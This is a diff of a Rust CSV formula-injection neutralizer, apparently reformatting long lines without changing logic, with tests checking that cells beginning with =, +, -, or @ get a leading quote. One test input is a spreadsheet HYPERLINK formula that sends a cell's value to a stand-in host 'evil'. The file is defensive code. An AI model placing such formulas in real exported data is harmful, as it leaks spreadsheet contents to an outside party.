@@ -37,7 +37,8 @@ pub fn neutralize_bytes(cell: &[u8]) -> Cow<'_, [u8]> {
 
 /// A record with every field neutralized.
 pub fn neutralize_record(record: &csv::ByteRecord) -> csv::ByteRecord {
-    let mut out = csv::ByteRecord::with_capacity(record.as_slice().len() + record.len(), record.len());
+    let mut out =
+        csv::ByteRecord::with_capacity(record.as_slice().len() + record.len(), record.len());
     for field in record {
         out.push_field(&neutralize_bytes(field));
     }
@@ -51,7 +52,10 @@ mod tests {
     #[test]
     fn formula_cells_get_a_quote_and_others_stay_as_they_are() {
         for (cell, want) in [
-            ("=HYPERLINK(\"http://evil/?x=\"&A1)", "'=HYPERLINK(\"http://evil/?x=\"&A1)"),
+            (
+                "=HYPERLINK(\"http://evil/?x=\"&A1)",
+                "'=HYPERLINK(\"http://evil/?x=\"&A1)",
+            ),
             ("+91 98000", "'+91 98000"),
             ("-12.5", "'-12.5"),
             ("@SUM(A1)", "'@SUM(A1)"),
@@ -62,8 +66,14 @@ mod tests {
             assert_eq!(neutralize_bytes(cell.as_bytes()).as_ref(), want.as_bytes());
         }
         for cell in ["", "C1", "Asha", " =1", "a=b", "'=1", "12.5", "é=", "\n=1"] {
-            assert!(matches!(neutralize(cell), Cow::Borrowed(c) if c == cell), "{cell:?}");
-            assert!(matches!(neutralize_bytes(cell.as_bytes()), Cow::Borrowed(c) if c == cell.as_bytes()), "{cell:?}");
+            assert!(
+                matches!(neutralize(cell), Cow::Borrowed(c) if c == cell),
+                "{cell:?}"
+            );
+            assert!(
+                matches!(neutralize_bytes(cell.as_bytes()), Cow::Borrowed(c) if c == cell.as_bytes()),
+                "{cell:?}"
+            );
         }
         // Not UTF-8: still checked by its first byte.
         assert_eq!(neutralize_bytes(b"=\xff").as_ref(), b"'=\xff");
@@ -73,7 +83,10 @@ mod tests {
     fn records_are_neutralized_field_by_field_and_read_back_as_text() {
         let record = csv::ByteRecord::from(vec!["=1+1", "ok", "-3", "@x", ""]);
         let safe = neutralize_record(&record);
-        assert_eq!(safe, csv::ByteRecord::from(vec!["'=1+1", "ok", "'-3", "'@x", ""]));
+        assert_eq!(
+            safe,
+            csv::ByteRecord::from(vec!["'=1+1", "ok", "'-3", "'@x", ""])
+        );
         let mut w = csv::Writer::from_writer(Vec::new());
         w.write_byte_record(&safe).unwrap();
         let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
